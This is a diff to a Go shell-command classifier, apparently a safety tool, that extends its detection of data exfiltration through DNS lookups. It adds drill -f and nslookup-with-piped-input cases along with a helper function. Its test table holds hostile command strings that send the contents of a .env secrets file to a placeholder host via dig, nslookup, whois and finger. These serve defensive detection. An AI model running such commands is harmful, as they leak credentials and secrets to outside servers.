@@ -831,6 +831,12 @@ var lookupSpec = &Spec{
 		{"dig @192.0.2.2 -f .env", "external"},
 		{"kdig -f names.txt", "external"},
 		{"dig -fnames.txt", "external"},
+		{"drill -f .env", "external"},
+		{"nslookup < .env", "external"},
+		{"nslookup - 192.0.2.2 < .env", "external"},
+		{"cat .env | nslookup", "external"},
+		{"nslookup example.com < /dev/null", "local+netread"},
+		{"nslookup <<< 'example.com'", "local"},
 		{`whois -h 192.0.2.2 "$(cat .env)"`, "external"},
 		{`finger "$(head -c40 .env)"@192.0.2.2`, "external"},
 		{"whois -h whois.example.net example.com", "local+netread"},
@@ -850,15 +856,20 @@ func classifyLookup(_ *Classifier, inv *shell.Invocation) Effect {
 	if hasAny(args, "-h", "--help", "-V", "--version") && name != "host" && name != "whois" {
 		return nothing // whois -h names the server
 	}
-	if name == "dig" || name == "kdig" {
+	if name == "dig" || name == "kdig" || name == "drill" {
+		// dig -f asks each line of the file as a name; drill -f sends
+		// the file as the query packet.
 		for i, a := range args {
 			if f, ok := strings.CutPrefix(a, "-f"); ok && !strings.HasPrefix(a, "--") {
 				if f == "" && i+1 < len(args) {
 					f = args[i+1]
 				}
-				return external("net.exfil", name+" -f asks each line of "+f+" as a name, which carries the file's content out in the queries")
+				return external("net.exfil", name+" -f sends the content of "+f+" in its queries")
 			}
 		}
+	}
+	if name == "nslookup" && lookupStdin(inv) {
+		return external("net.exfil", "nslookup with no name reads the names to ask from its input, which carries that input out in the queries")
 	}
 	for i, a := range args {
 		if inv.IsDynamic(i+1) && !lookupPlainVar(a) {
@@ -869,6 +880,23 @@ func classifyLookup(_ *Classifier, inv *shell.Invocation) Effect {
 		return nothing // dig alone queries the root servers
 	}
 	return netRead("net.lookup", name+" queries the network")
+}
+
+// lookupStdin reports whether nslookup runs in its interactive mode (no
+// name, or "-" for one) with its input from a file or a pipe.
+func lookupStdin(inv *shell.Invocation) bool {
+	if len(operandsOf(inv.Args[1:])) > 0 && !hasAny(inv.Args[1:], "-") {
+		return false
+	}
+	if inv.Stdin == "pipe" || inv.Stdin == "heredoc" || inv.Stdin == "herestring" {
+		return !inv.StdinKnown || strings.TrimSpace(inv.StdinText) != "" && strings.ContainsAny(inv.StdinText, "$`")
+	}
+	for _, r := range inv.Redirects {
+		if r.Op == "<" {
+			return r.Target != "/dev/null"
+		}
+	}
+	return false
 }
 
 // lookupPlainVar reports whether a dynamic word is one whole variable
